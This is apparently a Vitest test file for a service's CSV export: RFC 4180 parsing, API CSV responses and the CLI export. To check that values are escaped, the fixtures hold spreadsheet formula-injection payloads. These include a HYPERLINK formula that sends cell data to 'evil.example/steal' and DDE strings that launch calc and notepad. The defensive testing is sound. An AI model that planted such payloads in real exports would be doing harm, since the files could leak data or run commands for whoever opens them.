import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../server/csv';
import { exportData } from '../../server/cli/export';
import { get, post, startTestServer } from '../helpers/server';
import { ciRun, deployment, incident, sha } from '../helpers/factories';
import { csvObjects as objects, parseCsv } from '../helpers/csv';

describe('the test RFC 4180 reader', () => {
  it('reads quotes, commas, line breaks and empty fields, and refuses what is not CSV', () => {
    expect(parseCsv('a,b,c\r\n"x, y","say ""hi""","two\r\nlines"\r\n,,\r\n')).toEqual([
      ['a', 'b', 'c'],
      ['x, y', 'say "hi"', 'two\r\nlines'],
      ['', '', ''],
    ]);
    expect(() => parseCsv('a,"b\r\n')).toThrow(/unterminated/);
    expect(() => parseCsv('a,b"c\r\n')).toThrow(/bare/);
  });
});

describe('toCsv', () => {
  it('round-trips quotes, commas, line breaks, unicode, nulls and nested objects', () => {
    const rows = [
      {
        id: 'a,1',
        title: 'He said "ship it"',
        notes: 'line one\nline two\r\nline three',
        who: 'Zoë — équipe 🚀',
        n: 3,
        none: null,
        nested: { x: 1, y: 'z' },
      },
      { id: 'b', title: ' leading and trailing spaces ', notes: '', who: '東京', n: 0.5, none: undefined, nested: { x: 2, y: null } },
    ];
    const csv = toCsv(rows);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(objects(parseCsv(csv))).toEqual([
      {
        id: 'a,1',
        title: 'He said "ship it"',
        notes: 'line one\nline two\r\nline three',
        who: 'Zoë — équipe 🚀',
        n: '3',
        none: '',
        'nested.x': '1',
        'nested.y': 'z',
      },
      { id: 'b', title: ' leading and trailing spaces ', notes: '', who: '東京', n: '0.5', none: '', 'nested.x': '2', 'nested.y': '' },
    ]);
  });

  it('writes text a spreadsheet would run as a formula with a leading quote, and leaves numbers alone', () => {
    const texts = ['=HYPERLINK("https://evil.example/?q="&A1,"open")', '+1+2', '-2+3', '-cmd', '@SUM(A1:A9)', '\t=1+2', '\r=1+2'];
    const csv = toCsv(texts.map((t, i) => ({ i, t })));
    expect(objects(parseCsv(csv)).map((r) => r.t)).toEqual(texts.map((t) => `'${t}`));
    // Numbers, negative ones included, text that is a plain number, and formula characters
    // anywhere but first are written as they are.
    const plain = [
      { n: -5, t: '-5' },
      { n: -0.25, t: '+1.5e3' },
      { n: 1e21, t: 'a=b+c' },
      { n: 0, t: 'acme/web-2' },
    ];
    expect(objects(parseCsv(toCsv(plain)))).toEqual(plain.map(({ n, t }) => ({ n: String(n), t })));
    expect(toCsv([{ n: -5 }])).toBe('n\r\n-5\r\n');
  });
});

describe('formula cells from ingested events', () => {
  const hyperlink = '=HYPERLINK("https://evil.example/steal?d="&A2,"Click for details")';
  const window = 'scope=org&from=2026-03-01&to=2026-03-10';
  let s: Awaited<ReturnType<typeof startTestServer>>;
  beforeAll(async () => {
    s = await startTestServer({}, () => Date.parse('2026-03-10T00:00:00Z'));
    const service = '@acme/formula';
    const r = await post(`${s.url}/api/v1/events`, [
      { type: 'change', service, sha: sha('f1'), committedAt: '2026-03-02T00:00:00Z' },
      deployment({ id: hyperlink, service, source: '+ci', sha: sha('f1'), finishedAt: '2026-03-03T00:00:00Z' }),
      incident({
        id: '-1+1',
        service,
        openedAt: '2026-03-03T01:00:00Z',
        resolvedAt: '2026-03-03T02:00:00Z',
        title: "@SUM(1+1)*cmd|' /C calc'!A0",
      }),
      ciRun({
        id: '-5',
        service,
        name: "=cmd|' /C notepad'!A1",
        branch: '+main',
        startedAt: '2026-03-02T01:00:00Z',
        finishedAt: '2026-03-02T02:00:00Z',
      }),
    ]);
    expect(r.status).toBe(200);
  });
  afterAll(async () => {
    await s.stop();
  });

  /** The JSON items as the CSV should hold them: text that starts a formula behind a quote. */
  const inert = (items: Record<string, unknown>[]) =>
    items.map((o) =>
      Object.fromEntries(
        Object.entries(o).map(([k, v]) => [
          k,
          v === null ? '' : typeof v === 'string' && /^[=+\-@]/.test(v) && v !== '-5' ? `'${v}` : String(v),
        ]),
      ),
    );

  it.each([
    ['deployments', (r: Record<string, string>) => [r.service, r.id, r.source]],
    ['incidents', (r: Record<string, string>) => [r.service, r.id, r.title]],
    ['ci-runs', (r: Record<string, string>) => [r.service, r.id, r.name, r.branch]],
    ['changes', (r: Record<string, string>) => [r.service, r.deploymentId]],
  ])('escapes them in the /api/v1/%s CSV, every other cell as the JSON says', async (list, pick) => {
    const json = await get(`${s.url}/api/v1/${list}?${window}`);
    const rows = objects(parseCsv((await get(`${s.url}/api/v1/${list}?${window}&format=csv`)).text));
    expect(rows).toHaveLength(1);
    const expected = {
      deployments: [`'@acme/formula`, `'${hyperlink}`, `'+ci`],
      incidents: [`'@acme/formula`, `'-1+1`, `'@SUM(1+1)*cmd|' /C calc'!A0`],
      'ci-runs': [`'@acme/formula`, '-5', `'=cmd|' /C notepad'!A1`, `'+main`],
      changes: [`'@acme/formula`, `'${hyperlink}`],
    }[list];
    expect(pick(rows[0])).toEqual(expected);
    if (list !== 'changes') expect(rows).toEqual(inert(json.body.items));
  });

  it('escapes them in `npx deming export --format csv` too', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'deming-csv-'));
    const out = join(dir, 'export.csv');
    const saved = process.env.DEMING_DB;
    process.env.DEMING_DB = s.ctx.config.dbFile;
    try {
      expect(await exportData(['--format', 'csv', '--from', '2026-03-01', '--to', '2026-03-10', '--out', out])).toBe(0);
    } finally {
      if (saved === undefined) delete process.env.DEMING_DB;
      else process.env.DEMING_DB = saved;
    }
    const text = readFileSync(out, 'utf8');
    rmSync(dir, { recursive: true, force: true });
    // Every table's cells: none starts a formula unless it is a plain number.
    const cells = text.split(/\r\n(?=# \w+\r\n)/).flatMap((table) => parseCsv(table.replace(/^# \w+\r\n/, '')).flat());
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(cells).toContain(`'${hyperlink}`);
    expect(cells).toContain(`'@acme/formula`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
  });
});

describe('CSV from the API', () => {
  let s: Awaited<ReturnType<typeof startTestServer>>;
  beforeAll(async () => {
    s = await startTestServer();
    await post(`${s.url}/api/v1/events`, [
      deployment({ id: 'web,1', service: 'acme/web', finishedAt: '2026-03-04T00:00:00Z', url: 'https://ci.example.org/job?a=1,b=2' }),
      incident({
        id: 'INC-"9"',
        service: 'acme/web',
        openedAt: '2026-03-04T02:00:00Z',
        resolvedAt: '2026-03-04T03:00:00Z',
        title: 'Login "broken", users\nsaw 500 — Zoë 🚑',
      }),
    ]);
  });
  afterAll(async () => {
    await s.stop();
  });

  const window = 'scope=service:acme/web&from=2026-03-01&to=2026-03-10';
  const asStrings = (items: Record<string, unknown>[]) =>
    items.map((o) => Object.fromEntries(Object.entries(o).map(([k, v]) => [k, v === null ? '' : String(v)])));

  it.each(['deployments', 'incidents'])('answers /api/v1/%s as CSV that parses back to the JSON items', async (list) => {
    const json = await get(`${s.url}/api/v1/${list}?${window}`);
    const csv = await get(`${s.url}/api/v1/${list}?${window}&format=csv`);
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/attachment; filename="?[\w-]+\.csv"?$/);
    expect(objects(parseCsv(csv.text))).toEqual(asStrings(json.body.items));
    const viaAccept = await get(`${s.url}/api/v1/${list}?${window}`, { accept: 'text/csv' });
    expect(viaAccept.text).toBe(csv.text);
  });

  it.each([
    [
      'deployments',
      'service,id,source,environment,production,status,sha,startedAt,finishedAt,rework,url,changes,causedIncident,unplanned,changeRequest,changeRequestedAt,approval,approvedAt,approvalWait,workStartedAt,workEndedAt',
    ],
    ['incidents', 'service,id,source,openedAt,resolvedAt,severity,deploymentId,rootCauseSha,title,url'],
    ['ci-runs', 'service,id,source,name,status,sha,branch,startedAt,finishedAt,testsPassed,testsFailed,testsSkipped,url'],
    [
      'changes',
      'service,sha,committedAt,leadTimeFrom,deployedAt,leadTime,url,deploymentId,deploymentUrl,pullRequest.number,pullRequest.url,stages.plan,stages.do,stages.check,stages.act,changeRequest,stages.approval,stages.release,stages.approvalReason',
    ],
  ])('gives /api/v1/%s its header even when the list is empty', async (list, header) => {
    const csv = await get(`${s.url}/api/v1/${list}?scope=service:acme/web&from=2020-01-01&to=2020-02-01&format=csv`);
    expect(csv.text).toBe(`${header}\r\n`);
  });

  it('keeps the same columns for changes with and without a pull request', async () => {
    await post(`${s.url}/api/v1/events`, [
      { type: 'change', service: 'acme/csv', sha: 'a'.repeat(40), committedAt: '2026-03-02T00:00:00Z' },
      {
        type: 'change',
        service: 'acme/csv',
        sha: 'b'.repeat(40),
        committedAt: '2026-03-02T01:00:00Z',
        pullRequest: { number: 4, mergedAt: '2026-03-02T02:00:00Z', mergeSha: 'b'.repeat(40) },
      },
      {
        type: 'deployment',
        id: 'csv-1',
        service: 'acme/csv',
        environment: 'production',
        status: 'success',
        sha: 'b'.repeat(40),
        commits: ['a'.repeat(40), 'b'.repeat(40)],
        finishedAt: '2026-03-03T00:00:00Z',
      },
    ]);
    const rows = objects(
      parseCsv((await get(`${s.url}/api/v1/changes?scope=service:acme/csv&from=2026-03-01&to=2026-03-10&sort=oldest&format=csv`)).text),
    );
    expect(rows.map((r) => [r.sha[0], r['pullRequest.number'], r.deploymentId])).toEqual([
      ['a', '', 'csv-1'],
      ['b', '4', 'csv-1'],
    ]);
    expect(Object.keys(rows[0])).toEqual(Object.keys(rows[1]));
    expect(Object.keys(rows[0])).not.toContain('pullRequest');
  });

  it('answers a series as one CSV row per bucket, nested figures as dotted columns', async () => {
    const csv = await get(`${s.url}/api/v1/metrics/series?${window}&bucket=day&format=csv`);
    const rows = objects(parseCsv(csv.text));
    expect(rows).toHaveLength(9);
    expect(rows[3]).toMatchObject({ from: '2026-03-04T00:00:00.000Z', 'deploymentFrequency.count': '1', 'timeToRestore.p50': '3600' });
  });
});
